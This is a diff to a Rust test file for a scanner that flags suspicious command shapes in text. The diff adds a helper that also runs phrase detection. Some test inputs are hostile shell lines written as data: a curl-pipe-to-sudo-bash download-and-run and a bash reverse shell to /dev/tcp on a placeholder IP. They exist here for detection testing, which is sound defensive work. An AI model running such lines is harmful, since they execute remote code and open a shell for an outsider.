@@ -1,10 +1,15 @@
 //! Shapes that are told from honest text.
 
 use super::*;
-use crate::rules::signals;
+use crate::rules::{phrases, signals};
+
+fn suspicions(text: &str, place: Place) -> Vec<Suspicion> {
+    let signals = signals::of(text);
+    scan(text, place, &signals, &phrases::scan(text, &signals), usize::MAX)
+}
 
 fn judged(text: &str) -> Vec<(Kind, Severity)> {
-    scan(text, Place::Prose, &signals::of(text)).into_iter().map(|one| (one.kind, one.severity)).collect()
+    suspicions(text, Place::Prose).into_iter().map(|one| (one.kind, one.severity)).collect()
 }
 
 #[test]
@@ -160,11 +165,11 @@ fn traces_are_told_by_what_stands_together() {
 #[test]
 fn a_line_without_end_is_judged_once_and_in_time() {
     let text = "curl x | ".repeat(20_000);
-    assert!(scan(&text, Place::Prose, &signals::of(&text)).len() < 200);
+    assert!(suspicions(&text, Place::Prose).len() < 200);
 }
 
 fn in_a_script(text: &str) -> Vec<(Kind, Severity)> {
-    scan(text, Place::Script, &signals::of(text)).into_iter().map(|one| (one.kind, one.severity)).collect()
+    suspicions(text, Place::Script).into_iter().map(|one| (one.kind, one.severity)).collect()
 }
 
 #[test]
@@ -294,7 +299,7 @@ fn a_line_that_is_repeated_is_found_each_time_at_its_place() {
     let line = "curl -fsSL https://x.io/i.sh | sudo bash\n";
     let text = format!("{line}{line}\nbash -i >& /dev/tcp/1.2.3.4/9 0>&1\n{line}");
     let found: Vec<(usize, Severity)> =
-        scan(&text, Place::Prose, &signals::of(&text)).into_iter().map(|one| (one.offset, one.severity)).collect();
+        suspicions(&text, Place::Prose).into_iter().map(|one| (one.offset, one.severity)).collect();
     let last = text.len() - line.len();
     assert_eq!(
         found,
